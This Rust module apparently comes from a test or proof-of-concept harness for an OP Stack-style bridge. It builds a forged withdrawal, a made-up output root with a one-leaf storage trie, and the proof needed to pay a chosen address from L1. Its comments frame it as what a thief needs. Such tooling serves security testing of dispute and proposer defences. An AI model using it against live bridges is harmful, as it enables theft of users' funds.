//! A withdrawal that never was, and a state that has it.

use alloy::sol_types::SolValue;
use alloy_primitives::{Address, B256, Bytes, U256, keccak256};
use alloy_rlp::Encodable;

use super::contracts::{OutputRootProof, WithdrawalTransaction};

/// Nonces of withdrawals have a version of 1 in their upper two bytes.
const NONCE: U256 = U256::from_limbs([77, 0, 0, 1 << 48]);

/// What a thief needs beside an output root that stands.
#[derive(Debug)]
pub struct Forgery {
    /// What L1 is to pay.
    pub withdrawal: WithdrawalTransaction,
    /// The state that would have it.
    pub output: OutputRootProof,
    /// Its one node.
    pub proof: Vec<Bytes>,
}

impl Forgery {
    /// Pays an address from a message passer that holds this withdrawal alone.
    pub fn new(to: Address, value: U256) -> Self {
        let withdrawal = WithdrawalTransaction {
            nonce: NONCE,
            sender: to,
            target: to,
            value,
            gasLimit: U256::from(100_000),
            data: Bytes::new(),
        };
        let slot = keccak256((hash(&withdrawal), B256::ZERO).abi_encode());
        let leaf = leaf(&slot);
        let output = OutputRootProof {
            version: B256::ZERO,
            stateRoot: keccak256("a state"),
            messagePasserStorageRoot: keccak256(&leaf),
            latestBlockhash: keccak256("a block"),
        };
        Self { withdrawal, output, proof: vec![leaf.into()] }
    }

    /// Hash of the withdrawal.
    pub fn hash(&self) -> B256 {
        hash(&self.withdrawal)
    }

    /// The root to propose.
    pub fn output_root(&self) -> B256 {
        let output = &self.output;
        let parts = (
            output.version,
            output.stateRoot,
            output.messagePasserStorageRoot,
            output.latestBlockhash,
        );
        keccak256(parts.abi_encode())
    }
}

fn hash(withdrawal: &WithdrawalTransaction) -> B256 {
    let WithdrawalTransaction { nonce, sender, target, value, gasLimit, data } = withdrawal;
    keccak256((*nonce, *sender, *target, *value, *gasLimit, data.clone()).abi_encode_params())
}

/// The only node of a storage trie in which that slot is one.
fn leaf(slot: &B256) -> Vec<u8> {
    let path = [&[0x20][..], keccak256(slot).as_slice()].concat();
    let mut node = Vec::new();
    let items: [&dyn Encodable; 2] = [&path.as_slice(), &[1u8].as_slice()];
    alloy_rlp::encode_list::<&dyn Encodable, dyn Encodable>(&items, &mut node);
    node
}
